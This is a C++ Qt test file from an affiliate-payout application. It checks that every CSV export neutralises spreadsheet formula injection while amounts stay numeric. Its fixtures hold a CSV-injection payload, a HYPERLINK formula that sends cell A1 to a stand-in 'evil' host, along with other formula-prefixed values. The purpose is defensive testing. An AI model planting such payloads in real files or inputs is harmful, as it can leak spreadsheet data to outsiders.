// Exports are inert (docs/SECURITY.md): every CSV the app writes, through its real export paths on
// a real SQLite book, carries a partner's "=HYPERLINK(...)" as text a spreadsheet will not run,
// while amounts, a reversal's -12.50 among them, stay numbers.

#include "core/csvwriter.h"
#include "import/csvreader.h"
#include "itemmodels/importissuemodel.h"
#include "payouttestkit.h"
#include "store/affiliatestore.h"
#include "store/auditlogquery.h"
#include "store/ledgerstore.h"
#include "store/payoutstore.h"
#include "store/programstore.h"
#include "store/reportstore.h"
#include "store/transactionquery.h"

#include <QBuffer>
#include <QSqlQuery>
#include <QTest>

using namespace Qt::StringLiterals;
using namespace PartnerDesk;
using namespace StoreTestKit;

namespace {

const QString formula = u"HYPERLINK(\"http://evil/?\"&A1,\"Click\")"_s;
const QString programName = u"@Koongo Partner"_s;

// One partner per character that starts a formula: his name starts with it.
struct Attacker
{
    QString prefix;
    QString code;
    QString email;
    QString orderId;

    QString name() const { return prefix + formula; }
};

const QList<Attacker> attackers = {
    {u"="_s, u"EQ"_s, u"=1+1@evil.example"_s, u"=1+1"_s},      {u"+"_s, u"PLUS"_s, u"plus@example.com"_s, u"+1002"_s},
    {u"-"_s, u"-MINUS"_s, u"minus@example.com"_s, u"-1003"_s}, {u"@"_s, u"@AT"_s, u"at@example.com"_s, u"@1004"_s},
    {u"\t"_s, u"TAB"_s, u"tab@example.com"_s, u"1005"_s},      {u"\r"_s, u"CR"_s, u"cr@example.com"_s, u"1006"_s},
};

QList<QStringList> parse(const QByteArray &csv)
{
    QByteArray bytes = csv;
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::ReadOnly);
    CsvReader reader(&buffer);
    QList<QStringList> rows;
    QStringList fields;
    CsvReader::Outcome outcome;
    while ((outcome = reader.next(fields)) != CsvReader::Outcome::End) {
        if (outcome == CsvReader::Outcome::Malformed) {
            qWarning("malformed CSV at line %lld: %s", reader.line(), qPrintable(reader.error()));
            return {};
        }
        rows.append(fields);
    }
    return rows;
}

// The row whose column `column` is `value`.
QStringList rowWith(const QList<QStringList> &rows, int column, const QString &value)
{
    for (const QStringList &row : rows) {
        if (row.value(column) == value)
            return row;
    }
    return {};
}

// Every cell a spreadsheet would run as a formula, outside the number columns.
QStringList liveFormulas(const QList<QStringList> &rows, const QList<int> &numberColumns)
{
    QStringList live;
    for (const QStringList &row : rows) {
        for (int i = 0; i < row.size(); ++i) {
            if (!numberColumns.contains(i) && CsvWriter::startsLikeFormula(row.at(i)))
                live.append(row.at(i));
        }
    }
    return live;
}

QString neutralised(const QString &text)
{
    return u'\'' + text;
}

} // namespace

class TestExportsInert final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void init();
    void cleanup();

    void payoutFiles();
    void transactionsCsv();
    void reportCsv();
    void auditExport();
    void importIssuesExport();

private:
    // Pays every partner's 12.50, then the store refunds the "-" partner's order: a reversal.
    void payAndRefund();
    qint64 idOf(const QString &code) const;

    std::unique_ptr<StoreFixture> m_store;
    std::unique_ptr<LedgerStore> m_ledger;
    QHash<QString, qint64> m_ids;
};

void TestExportsInert::initTestCase()
{
    pinNow();
    qputenv("PARTNERDESK_ACTOR", "manager");
}

void TestExportsInert::init()
{
    m_store = openFixture();
    QVERIFY(m_store);
    m_ledger = std::make_unique<LedgerStore>(m_store->database);
    Program program;
    program.name = programName;
    program.currency = u"EUR"_s;
    program.linkRate = Rate::fromBasisPoints(2000);
    program.thresholdMinor = 500;
    program.storeHosts = {u"koongo.com"_s};
    ProgramStore programs(m_store->database);
    const Result<qint64> programId = programs.add(program);
    QVERIFY2(programId, qPrintable(programId.error()));

    AffiliateStore affiliates(m_store->database);
    QList<OrderLine> orders;
    for (const Attacker &attacker : attackers) {
        const Result<Affiliate> added = affiliates.add(attacker.name(), attacker.email, attacker.code);
        QVERIFY2(added, qPrintable(added.error()));
        m_ids.insert(attacker.code, added->id);
        // The store trims what a form gives it; a row pulled from the central database is as
        // its writer made it, leading tab or carriage return included.
        QSqlQuery rename(m_store->database.connection());
        rename.prepare(u"UPDATE affiliates SET name = ? WHERE id = ?"_s);
        rename.addBindValue(attacker.name());
        rename.addBindValue(added->id);
        QVERIFY(rename.exec());
        QVERIFY(programs.join(added->id, *programId));
        OrderLine order = PayoutTestKit::viaLink(attacker.orderId, attacker.code, u"62.50"_s);
        order.orderId = u"\"%1\""_s.arg(attacker.orderId); // written unquoted by the kit otherwise
        orders.append(order);
    }
    QVERIFY(PayoutTestKit::importOrders(m_store->database, m_store->path(u"orders.csv"_s), orders));
    QCOMPARE(count(m_store->database, u"transactions"_s, u"commission_minor = 1250"_s), attackers.size());
}

void TestExportsInert::cleanup()
{
    m_ledger.reset();
    m_store.reset();
    m_ids.clear();
}

qint64 TestExportsInert::idOf(const QString &code) const
{
    return m_ids.value(code);
}

void TestExportsInert::payAndRefund()
{
    const Result<PayoutBatch> batch = m_ledger->createPayoutBatch(u"csv"_s, m_store->path(u"paid.csv"_s));
    QVERIFY2(batch, qPrintable(batch.error()));
    QVERIFY(m_ledger->markPaid(batch->id));
    OrderLine refund = PayoutTestKit::viaLink(u"\"-1003\""_s, u"-MINUS"_s, u"62.50"_s);
    refund.status = u"refunded"_s;
    QVERIFY(PayoutTestKit::importOrders(m_store->database, m_store->path(u"refund.csv"_s), {refund}));
    QCOMPARE(count(m_store->database, u"transactions"_s, u"kind = 'reversal' AND commission_minor = -1250"_s), 1);
}

void TestExportsInert::payoutFiles()
{
    const QString csvPath = m_store->path(u"payout.csv"_s);
    const Result<PayoutBatch> batch = m_ledger->createPayoutBatch(u"csv"_s, csvPath);
    QVERIFY2(batch, qPrintable(batch.error()));
    const QByteArray csv = readFile(csvPath);
    // The attack as a manager would have received it, and as he gets it now.
    QVERIFY(!csv.contains(",\"=HYPERLINK"));
    QVERIFY2(
        csv.contains("1,EQ,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"Click\"\")\",'=1+1@evil.example,EUR,12.50,1\n"),
        csv.constData());

    const QList<QStringList> rows = parse(csv);
    QCOMPARE(rows.size(), 1 + attackers.size());
    QCOMPARE(rows.constFirst(), (QStringList{u"batch_id"_s, u"affiliate_code"_s, u"name"_s, u"email"_s, u"currency"_s,
                                             u"amount"_s, u"transactions"_s}));
    for (const Attacker &attacker : attackers) {
        const QStringList row = rowWith(rows, 2, neutralised(attacker.name()));
        QVERIFY2(!row.isEmpty(), qPrintable(attacker.code));
        QCOMPARE(row.at(1), attacker.code.startsWith(u'-') || attacker.code.startsWith(u'@')
                                ? neutralised(attacker.code)
                                : attacker.code);
        QCOMPARE(row.at(5), u"12.50"_s);
    }
    QCOMPARE(liveFormulas(rows, {0, 5, 6}), QStringList());

    const QString payPalPath = m_store->path(u"paypal.csv"_s);
    QVERIFY(PayoutStore(m_store->database).exportBatch(batch->id, u"paypal"_s, payPalPath));
    const QList<QStringList> payPal = parse(readFile(payPalPath));
    QCOMPARE(payPal.size(), attackers.size()); // no header
    QCOMPARE(rowWith(payPal, 0, u"'=1+1@evil.example"_s).mid(0, 4),
             (QStringList{u"'=1+1@evil.example"_s, u"12.50"_s, u"EUR"_s, u"PD1-EQ"_s}));
    QCOMPARE(rowWith(payPal, 3, u"PD1--MINUS"_s).value(1), u"12.50"_s);
    QCOMPARE(liveFormulas(payPal, {1}), QStringList());
}

void TestExportsInert::transactionsCsv()
{
    payAndRefund();
    // A campaign is text from a landing URL: a formula in it is neutralised like the others.
    QSqlQuery campaign(m_store->database.connection());
    QVERIFY(campaign.exec(u"UPDATE transactions SET campaign = '@SUM(A1)' WHERE kind = 'reversal'"_s));
    const QString path = m_store->path(u"transactions.csv"_s);
    const Result<qint64> written = TransactionQuery::exportCsvFile(m_store->database.path(), {},
                                                                   TransactionSort::OrderId, Qt::AscendingOrder, path);
    QVERIFY2(written, qPrintable(written.error()));
    QCOMPARE(*written, attackers.size() + 1);
    const QByteArray csv = readFile(path);
    const QList<QStringList> rows = parse(csv);
    QCOMPARE(rows.size(), 1 + attackers.size() + 1);
    // The reversal: text neutralised, its amount a number.
    QStringList reversal = rowWith(rows, 3, u"reversal"_s);
    QCOMPARE(reversal.size(), 10);
    reversal[5] = u"*"_s; // the rate, not this test's concern
    QCOMPARE(reversal, (QStringList{u"'-1003"_s, u"'-MINUS"_s, u"'@Koongo Partner"_s, u"reversal"_s, u"62.50"_s, u"*"_s,
                                    u"-12.50"_s, u"EUR"_s, u"approved"_s, u"'@SUM(A1)"_s}));
    QVERIFY2(csv.contains(",-12.50,EUR,approved,'@SUM(A1)\n"), csv.constData());
    QCOMPARE(rowWith(rows, 0, u"'=1+1"_s).value(1), u"EQ"_s);
    QCOMPARE(liveFormulas(rows, {4, 5, 6}), QStringList());

    // The command line's "transactions" writes the same rows, in id order.
    QString text;
    QTextStream out(&text);
    QVERIFY(m_ledger->writeTransactionsCsv(out));
    out.flush();
    QList<QStringList> cliRows = parse(text.toUtf8());
    QCOMPARE(cliRows.size(), rows.size());
    QCOMPARE(liveFormulas(cliRows, {4, 5, 6}), QStringList());
    QCOMPARE(rowWith(cliRows, 3, u"reversal"_s).value(6), u"-12.50"_s);
}

void TestExportsInert::reportCsv()
{
    payAndRefund();
    ReportParameters parameters = ReportParameters::forDates(now() - 365 * Timestamp::secondsPerDay, now());
    parameters.grouping = {false, true, true, true};
    ReportStore store(m_store->database);
    const Result<Report> report = store.run(parameters);
    QVERIFY2(report, qPrintable(report.error()));
    QString text;
    QTextStream out(&text);
    report->writeCsv(out);
    out.flush();
    const QList<QStringList> rows = parse(text.toUtf8());
    QCOMPARE(rows.constFirst(), (QStringList{u"program"_s, u"partner"_s, u"kind"_s, u"currency"_s, u"orders"_s,
                                             u"sales"_s, u"commission"_s, u"visits"_s, u"conversion_percent"_s}));
    QCOMPARE(rowWith(rows, 2, u"reversal"_s), (QStringList{u"'@Koongo Partner"_s, u"'-MINUS"_s, u"reversal"_s, u"EUR"_s,
                                                           u"0"_s, u"0.00"_s, u"-12.50"_s, QString(), QString()}));
    QVERIFY2(text.contains(u"'@Koongo Partner,'@AT,link,EUR,1,62.50,12.50,,\n"_s), qPrintable(text));
    QCOMPARE(liveFormulas(rows, {4, 5, 6, 7, 8}), QStringList());

    // By campaign: a campaign that looks like a formula is text.
    QSqlQuery campaign(m_store->database.connection());
    QVERIFY(campaign.exec(u"UPDATE transactions SET campaign = '=1+1' WHERE kind = 'link'"_s));
    parameters.grouping = {false, false, false, false, true};
    const Result<Report> byCampaign = store.run(parameters);
    QVERIFY2(byCampaign, qPrintable(byCampaign.error()));
    QString campaignText;
    QTextStream campaignOut(&campaignText);
    byCampaign->writeCsv(campaignOut);
    campaignOut.flush();
    const QList<QStringList> campaignRows = parse(campaignText.toUtf8());
    QCOMPARE(rowWith(campaignRows, 0, u"'=1+1"_s).value(1), u"EUR"_s);
    QCOMPARE(liveFormulas(campaignRows, {2, 3, 4, 5, 6}), QStringList());
}

void TestExportsInert::auditExport()
{
    const QString reason = u'=' + formula;
    QVERIFY(m_ledger->assign(u"=1+1"_s, idOf(u"PLUS"_s), reason));
    const QString path = m_store->path(u"audit.csv"_s);
    const Result<qint64> written = AuditLogQuery(m_store->database).exportCsv({}, path);
    QVERIFY2(written, qPrintable(written.error()));
    const QList<QStringList> rows = parse(readFile(path));
    QCOMPARE(rows.size(), 1 + *written);
    const QStringList assigned = rowWith(rows, 2, u"order.assign"_s);
    QCOMPARE(assigned.size(), 9); // ..., reason, login
    QCOMPARE(assigned.at(4), u"'=1+1"_s);
    QCOMPARE(assigned.at(7), neutralised(reason));
    QCOMPARE(liveFormulas(rows, {}), QStringList());
}

void TestExportsInert::importIssuesExport()
{
    // A file the store named, and a row whose order id is a formula and whose currency is wrong.
    const QString path = m_store->path(u"=orders.csv"_s);
    QVERIFY(writeFile(path, (ordersHeader + u"\n\"-2+3\",2026-01-01T00:00:00Z,1.00,=X,complete,,,,,\n"_s).toUtf8()));
    OrderImporter importer(m_store->database);
    QList<ImportIssue> issues;
    importer.setIssueHandler([&issues](const ImportIssue &issue) { issues.append(issue); });
    importer.importFile(path);
    QCOMPARE(issues.size(), 1);
    issues.append({7, u"@field"_s, u"-"_s + formula}); // every text column, as a translation could word it
    ImportIssueModel model;
    model.setIssues(issues);
    QString text;
    QTextStream out(&text);
    model.writeCsv(out, u"=orders.csv"_s);
    out.flush();
    const QList<QStringList> rows = parse(text.toUtf8());
    QCOMPARE(rows.size(), 3);
    QCOMPARE(rows.at(1).mid(0, 3), (QStringList{u"'=orders.csv"_s, u"2"_s, u"currency"_s}));
    QCOMPARE(rows.at(2), (QStringList{u"'=orders.csv"_s, u"7"_s, u"'@field"_s, u"'-"_s + formula}));
    QCOMPARE(liveFormulas(rows, {1}), QStringList());
}

QTEST_MAIN(TestExportsInert)
#include "tst_exportsinert.moc"
